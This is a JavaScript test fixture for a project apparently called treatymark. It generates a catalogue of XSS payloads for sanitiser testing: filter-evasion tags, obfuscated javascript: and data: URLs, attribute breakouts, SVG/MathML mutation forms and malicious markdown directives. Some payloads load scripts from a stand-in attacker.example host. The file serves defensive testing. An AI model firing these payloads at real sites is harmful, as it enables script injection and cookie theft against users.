/**
 * Hostile-input payloads for treatymark's surfaces. Each payload is a string an attacker (or a
 * careless caller) might put where treatymark reads text, markdown, a URL or an attribute.
 *
 * Categories:
 * - `filter-evasion`: classic XSS filter-evasion forms (the kinds catalogued by OWASP's cheat
 *   sheet: case, quotes, entities, broken tags, event handlers, legacy attributes), written here
 *   in our own variations.
 * - `scheme`: dangerous URL schemes obfuscated with C0 controls, tab/LF/CR, spaces, character
 *   references, invisible characters and case, each as a bare URL.
 * - `breakout`: attempts to leave an attribute value or a text context.
 * - `svg-mathml`: foreign content (SVG, MathML) and mutation-XSS forms.
 * - `data-url`: `data:` URLs, raster (allowed for images) and scriptable (never).
 * - `markdown`: markdown and treatymark directive syntax carrying the forms above.
 *
 * `url: true` marks payloads that are (meant to be read as) a URL: surfaces put them in
 * `href`/`src` positions too (buildUrl results, credit URLs, markdown link and image targets).
 */

const ALERT = 'alert(1)'

/** Dangerous URLs before obfuscation. */
const dangerousUrls = [
  `javascript:${ALERT}`,
  'javascript:alert(document.domain)//',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
]

/** Ways to hide a scheme from a naive filter; each turns `javascript:...` into a variant. */
const obfuscations = [
  ['leading NUL', (u) => `\u0000${u}`],
  ['leading U+0001', (u) => `\u0001${u}`],
  ['leading U+001F', (u) => `\u001f${u}`],
  ['leading spaces', (u) => `   ${u}`],
  ['leading tab and LF', (u) => `\t\n${u}`],
  ['leading form feed', (u) => `\f${u}`],
  ['trailing controls', (u) => `${u}\u0000\u0008 `],
  ['tab in scheme', (u) => u.replace(/^(\w{3})/, '$1\t')],
  ['LF in scheme', (u) => u.replace(/^(\w{2})/, '$1\n')],
  ['CR in scheme', (u) => u.replace(/^(\w{4})/, '$1\r')],
  ['CRLF before colon', (u) => u.replace(':', '\r\n:')],
  ['&#9; in scheme', (u) => u.replace(/^(\w{4})/, '$1&#9;')],
  ['&#x09; in scheme', (u) => u.replace(/^(\w{4})/, '$1&#x09;')],
  ['&#10; in scheme', (u) => u.replace(/^(\w{2})/, '$1&#10;')],
  ['&#13; in scheme', (u) => u.replace(/^(\w{3})/, '$1&#13;')],
  ['&Tab; in scheme', (u) => u.replace(/^(\w{4})/, '$1&Tab;')],
  ['&NewLine; in scheme', (u) => u.replace(/^(\w{4})/, '$1&NewLine;')],
  ['&colon;', (u) => u.replace(':', '&colon;')],
  ['&#58;', (u) => u.replace(':', '&#58;')],
  ['&#x3a without semicolon', (u) => u.replace(':', '&#x3a')],
  ['first letter as decimal reference', (u) => `&#${u.charCodeAt(0)};${u.slice(1)}`],
  ['zero-padded decimal references', (u) => padded(u, 10)],
  ['hex references without semicolons', (u) => hexed(u, 10)],
  ['mixed case', (u) => u.replace(/^(\w+):/, (m) => alternate(m))],
  ['upper case', (u) => u.replace(/^(\w+):/, (m) => m.toUpperCase())],
  ['zero-width space in scheme', (u) => u.replace(/^(\w{4})/, '$1\u200b')],
  ['soft hyphen in scheme', (u) => u.replace(/^(\w{4})/, '$1\u00ad')],
  ['NBSP before', (u) => `\u00a0${u}`],
  ['BOM before', (u) => `\ufeff${u}`],
  ['percent-encoded colon', (u) => u.replace(':', '%3A')],
  ['entity-encoded leading space', (u) => `&#32;${u}`],
  ['&#14; and spaces before', (u) => ` &#14;  ${u}`],
]

function padded(url, count) {
  return [...url]
    .map((c, i) => (i < count ? `&#${String(c.charCodeAt(0)).padStart(7, '0')}` : c))
    .join('')
}

function hexed(url, count) {
  return [...url].map((c, i) => (i < count ? `&#x${c.charCodeAt(0).toString(16)}` : c)).join('')
}

function alternate(text) {
  return [...text].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join('')
}

/** Classic filter-evasion forms (HTML written into plain text or markdown). */
const filterEvasion = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("a \'b\'")`>',
  '<a onmouseover="alert(document.cookie)">link</a>',
  '<a onmouseover=alert(document.cookie)>link</a>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC= onmouseover="alert(1)">',
  '<IMG onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC="jav&#x0D;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<SCRIPT/XSS SRC="https://attacker.example/x.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
  '<SCRIPT/SRC="https://attacker.example/x.js"></SCRIPT>',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<SCRIPT SRC=https://attacker.example/x.js?< B >',
  '<SCRIPT SRC=//attacker.example/.j>',
  '<IMG SRC="`(\'XSS\')"',
  '<iframe src=https://attacker.example/scriptlet.html <',
  '\\";alert(1);//',
  '</TITLE><SCRIPT>alert(1);</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<IMG DYNSRC="javascript:alert(1)">',
  '<IMG LOWSRC="javascript:alert(1)">',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</br>',
  "<IMG SRC='vbscript:msgbox(1)'>",
  '<svg/onload=alert(1)>',
  '<BODY ONLOAD=alert(1)>',
  '<BGSOUND SRC="javascript:alert(1);">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(1)">',
  '<TABLE><TD BACKGROUND="javascript:alert(1)">',
  '<DIV STYLE="background-image: url(javascript:alert(1))">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="width: expression(alert(1));">',
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  '<BASE HREF="javascript:alert(1);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://attacker.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<SCRIPT SRC="https://attacker.example/x.jpg"></SCRIPT>',
  '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=https://attacker.example/x.js></SCRIPT>\'"-->',
  "<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>",
  "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
  '<A HREF="javascript:document.location=\'https://attacker.example/\'">x</A>',
  '<A HREF="h\ntt\tp://attacker.example/">x</A>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="javas&#99;ript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<form action="javascript:alert(1)"><input type=submit>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<img srcset="x, javascript:alert(1) 2x">',
  '<img src="x" onerror\u000c=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=x onerror=alert`1`>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)<!--',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<a href="#" onclick="alert(1)">Article 5 of the APMBT</a>',
  '<span class="tm-cite" onclick="alert(1)">Austria</span>',
]

/** Leaving an attribute value or a text context. */
const breakouts = [
  '" onmouseover="alert(1)',
  "' onerror='alert(1)",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '"/><svg onload=alert(1)>',
  '` onclick=alert(1)',
  'x" style="background:url(javascript:alert(1))',
  '&quot; onload=&quot;alert(1)',
  '&#34; onload=&#34;alert(1)',
  '&#x22;><img src=x onerror=alert(1)>',
  '\u0022 autofocus onfocus=alert(1) x=\u0022',
  '"\u0000onmouseover="alert(1)',
  '" onmouseover=alert(1) "',
  'tm-" onclick="alert(1)',
  '</span><script>alert(1)</script><span>',
  '</a><img src=x onerror=alert(1)><a>',
  '</figcaption></figure><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
]

/** Foreign content and mutation XSS. */
const foreign = [
  '<svg><script>alert(1)</script></svg>',
  '<svg><script xlink:href="data:,alert(1)"></script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">x</text></a></svg>',
  '<svg><a href="javascript:alert(1)"><circle r="10"/></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<svg><image href="javascript:alert(1)"/></svg>',
  '<svg><feImage href="javascript:alert(1)"/></svg>',
  '<svg><discard onbegin=alert(1)>',
]

/** `data:` URLs (as bare URLs). */
const dataUrls = [
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'data:image/gif;base64,R0lGODlhAQABAAAAACw=',
  'data:image/jpeg;base64,/9j/4AAQSkZJRgABAQ==',
  'data:image/webp;base64,UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA',
  'data:image/avif;base64,AAAAIGZ0eXBhdmlm',
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=',
  'data:image/svg+xml;utf8,<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E',
  'data:text/javascript,alert(1)',
  'data:application/javascript,alert(1)',
  'data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:,<script>alert(1)</script>',
  'data:image/png,<script>alert(1)</script>',
  'data:text/html,<svg onload=alert(1)>',
  'DATA:TEXT/HTML,<script>alert(1)</script>',
  'data:image/png;text/html,<script>alert(1)</script>',
  'data:image/x-icon;base64,AAABAAEAAQE=',
  'data:image/bmp;base64,Qk0=',
  ' data:text/html,<script>alert(1)</script>',
]

/** Markdown and directive forms (for the remark preset and text surfaces). */
const markdown = [
  '[Article 5 of the APMBT](javascript:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](java&#9;script:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![a](javascript:alert(1))',
  '![a](java&#9;script:alert(1))',
  '![a](&#x6A;avascript:alert(1))',
  '![a](data:image/svg+xml;base64,PHN2Zz4=)',
  '<javascript:alert(1)>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '[Austria](https://example.org/" onmouseover="alert(1))',
  '![a](https://example.org/a.png "t\\" onerror=\\"alert(1)")',
  ':::credit{title=T creator=C}\n![a](java&#9;script:alert(1))\n:::',
  ':::credit{title=T creator=C}\n![a](\u0001javascript:alert(1))\n:::',
  ':::credit{title=T creator=C}\n![a](data:text/html,<script>alert(1)</script>)\n:::',
  ':::credit{title=T creator=C}\n![a](data:image/svg+xml,<svg/onload=alert(1)>)\n:::',
  ':::credit{title=T creator=C url="javascript:alert(1)" license="CC BY 4.0"}\n![a](https://example.org/a.png)\n:::',
  ':::credit{title="<script>alert(1)</script>" creator="\\" onload=\\"x"}\n![a"onerror="alert(1)](x.png)\n:::',
  ':cite[Article 5]{treaty=apmbt url="javascript:alert(1)"}',
  ':cite[Article 5]{treaty="apmbt\\" onclick=\\"alert(1)"}',
  ':cite[x]{treaty=apmbt onclick=alert(1)}',
  '::states[Austria, Belgium, Benin]{sort=alpha onmouseover=alert(1)}',
  ':state[Austria]{iso3="AUT\\" onclick=\\"alert(1)"}',
  ':doc[A/RES/1]{url="javascript:alert(1)"}',
  ':::credit{#x .y onload=alert(1)}\nPhoto by Jane Doe\n:::',
  '---\ninstrument: "<script>alert(1)</script>"\n---\n\nArticle 5 of the Convention.',
  '<img src=x onerror=alert(1)> in Austria',
  '`<script>alert(1)</script>` and Austria',
  '```html\n<script>alert(1)</script>\n```',
]

function build() {
  const out = []
  const add = (category, value, url = false) => out.push({ category, value, url })
  for (const value of filterEvasion) add('filter-evasion', value)
  for (const url of dangerousUrls) {
    add('scheme', url, true)
    for (const [, obfuscate] of obfuscations) add('scheme', obfuscate(url), true)
  }
  for (const value of breakouts) add('breakout', value)
  for (const value of foreign) add('svg-mathml', value)
  for (const value of dataUrls) add('data-url', value, true)
  for (const value of markdown) add('markdown', value)
  // Unique values only, numbered in order.
  const seen = new Set()
  return out
    .filter((p) => (seen.has(p.value) ? false : (seen.add(p.value), true)))
    .map((p, i) => Object.freeze({ id: i + 1, ...p }))
}

/** Every payload, frozen: `{ id, category, value, url }`. */
export const payloads = Object.freeze(build())

/** The payloads meant as URLs. */
export const urlPayloads = Object.freeze(payloads.filter((p) => p.url))
